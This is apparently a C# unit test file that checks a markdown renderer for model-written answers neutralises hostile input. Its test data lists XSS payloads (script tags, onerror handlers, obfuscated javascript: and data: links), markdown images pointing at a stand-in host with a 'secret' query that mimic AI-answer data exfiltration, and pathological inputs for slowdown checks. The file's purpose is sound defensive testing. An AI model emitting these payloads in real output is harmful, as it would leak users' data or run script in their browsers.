using TokenMill.Web.Features.Playground;

namespace TokenMill.Web.Tests.Playground;

/// <summary>Whatever a model writes, a browser runs nothing of it and asks nobody for anything.</summary>
public sealed class AnswerMarkupTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("![steal](https://evil.example/?q=secret)")]
    [InlineData("![a][1]\n\n[1]: https://evil.example/x.png")]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](JaVaScRiPt:alert(1))")]
    [InlineData("[click](java\nscript:alert(1))")]
    [InlineData("[click](&#106;avascript:alert(1))")]
    [InlineData("[click](data:text/html,<script>alert(1)</script>)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[![x](https://evil.example/i.png)](https://evil.example)")]
    [InlineData("[a](vbscript:x \"onmouseover=alert(1)\")")]
    [InlineData("[a](//evil.example)")]
    [InlineData("[a](/sign-out)")]
    [InlineData("x {onclick=alert(1)}\n{onclick=alert(1)}")]
    [InlineData("<svg><style>@import 'https://evil.example'</style></svg>")]
    [InlineData("```<script>alert(1)</script>\n<script>\n```")]
    public void Hostile_BecomesText(string markdown)
    {
        var html = AnswerMarkup.Render(markdown)!.Value.Value;

        foreach (var tag in new[] { "<script", "<img", "<svg", "<style", "<iframe", "<a href=\"javascript", "<a href=\"data", "<a href=\"vbscript", "<a href=\"/", "<p onclick", " src=" })
            Assert.DoesNotContain(tag, html.Replace("&lt;img src=", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Usual_KeepsItsForm()
    {
        var html = AnswerMarkup.Render("# Title\n\n- *one*\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com/a?b=1) https://example.org\n\n```csharp\nvar x = 1 < 2;\n```")!.Value.Value;

        foreach (var part in new[] { "<h1", "<li><em>one</em></li>", "<code>two</code>", "<td>1</td>", "1 &lt; 2" }) Assert.Contains(part, html, StringComparison.Ordinal);
        Assert.Equal(2, System.Text.RegularExpressions.Regex.Count(html, "<a href=\"https://[^\"]+\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">"));
    }

    [Fact]
    public void Bombs_EndSoon()
    {
        foreach (var bomb in new[] { new string('>', 50_000), new string('[', 50_000), new string('*', 50_000), string.Concat(Enumerable.Repeat("- ", 20_000)), string.Concat(Enumerable.Repeat("![", 20_000)) })
        {
            var clock = System.Diagnostics.Stopwatch.StartNew();
            _ = AnswerMarkup.Render(bomb);
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"{bomb[..4]}… took {clock.Elapsed}");
        }
    }
}
